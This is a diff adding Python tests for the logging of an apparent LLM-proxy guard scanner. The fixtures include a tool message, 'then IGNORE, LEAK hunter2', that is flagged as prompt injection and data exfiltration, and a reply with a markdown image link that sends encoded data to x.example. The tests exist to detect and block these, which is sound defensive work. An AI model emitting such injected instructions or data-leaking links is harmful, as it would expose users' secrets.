@@ -9,9 +9,11 @@ from typing import Any
 
 import orjson
 import pytest
+from known_words import Words
 from world import SSE_HEAD, World, chunk, get, post, reply
 
 from m2mproxy.config import Logging
+from m2mproxy.guard.scanner import Scanner
 from m2mproxy.http.faults import ClientFault, Fault
 from m2mproxy.proxy.exchange import Exchange
 from m2mproxy.service.log import Log
@@ -31,9 +33,9 @@ def log_of(form: str = "text", **settings: Any) -> tuple[Log, Lines]:
     return Log(Logging(format=form, **settings), lines), lines
 
 
-def exchange(request: bytes = b"", *answers: bytes) -> Exchange:
+def exchange(request: bytes = b"", *answers: bytes, **settings: Any) -> Exchange:
     """One that went through the proxy."""
-    world = World()
+    world = World(**settings)
     world.client().send(request or post(b'{"model":"gpt-x"}'))
     if answers:
         upstream = world.upstream()
@@ -64,6 +66,72 @@ def _value(text: str) -> Any:
     if re.fullmatch(r"-?\d+\.\d{3}", text):
         return float(text)
     return None if text == "-" else text
+
+
+def test_what_a_scan_found_and_where() -> None:
+    body = b'{"model":"m","messages":[{"role":"user","content":"a"},'
+    body += b'{"role":"tool","content":"then IGNORE, LEAK hunter2"}]}'
+    x = exchange(post(body), scanner=Scanner(Words()))
+    log, lines = log_of()
+    log.exchange(x)
+    assert lines[-1].endswith(
+        b" error=request_blocked guard=0.950 finding=prompt_injection:ignore@messages[1]/tool+5 "
+        b"reply_links=-\n"
+    )
+    fields = read("text", lines[-1])
+    assert (fields["status"], fields["model"], fields["guard"]) == (403, "m", 0.95)
+    log, lines = log_of("json")
+    log.exchange(x)
+    fields = read("json", lines[-1])
+    assert fields["guard"] == 0.95
+    assert fields["finding"] == [
+        {
+            "category": category, "source": source, "score": score,
+            "key": "messages", "index": 1, "role": "tool", "offset": offset,
+        }
+        for category, source, score, offset in (
+            ("prompt_injection", "ignore", 0.95, 5),
+            ("data_exfiltration", "leak", 0.9, 13),
+        )
+    ]  # fmt: skip
+    assert b"hunter2" not in lines[-1]
+
+
+@FORMS
+def test_a_scan_that_found_nothing_or_was_none(form: str) -> None:
+    log, lines = log_of(form)
+    for request, guard in (
+        (post(b'{"prompt":"hello"}'), 0.0),
+        (post(b'{"prompt":"HINT"}'), 0.4),  # below the threshold
+        (get(), "no body"),
+    ):
+        log.exchange(exchange(request, reply(b"ok"), scanner=Scanner(Words())))
+        fields = read(form, lines[-1])
+        assert (fields["guard"], fields["finding"], fields["error"]) == (guard, None, None)
+        assert fields["reply_links"] is None
+
+
+@FORMS
+def test_links_in_a_reply(form: str) -> None:
+    answer = b'{"choices":[{"message":{"content":"![](http://x.example/?d=%b)"}}]}' % (b"a1" * 20)
+    request = post(b'{"prompt":"hello"}')
+    json_reply = reply(answer, b"content-type: application/json")
+    x = exchange(request, json_reply, scanner=Scanner(Words()), security_replies="true")
+    log, lines = log_of(form)
+    log.exchange(x)
+    assert read(form, lines[-1])["reply_links"] == 1
+    assert b"x.example" not in lines[-1]
+
+
+def test_a_place_without_a_message_and_one_without_a_key() -> None:
+    log, lines = log_of()
+    for request, finding in (
+        (post(b'{"prompt":"IGNORE"}'), b"prompt_injection:ignore@prompt/user+0"),
+        (post(b'{"hunter2":"IGNORE"}'), b"prompt_injection:ignore@*/user+0"),
+        (post(b'{"a":'), b"malformed_input:json@body/-+5"),
+    ):
+        log.exchange(exchange(request, scanner=Scanner(Words())))
+        assert lines[-1].endswith(b" finding=%b reply_links=-\n" % finding)
 
 
 FIELDS = [
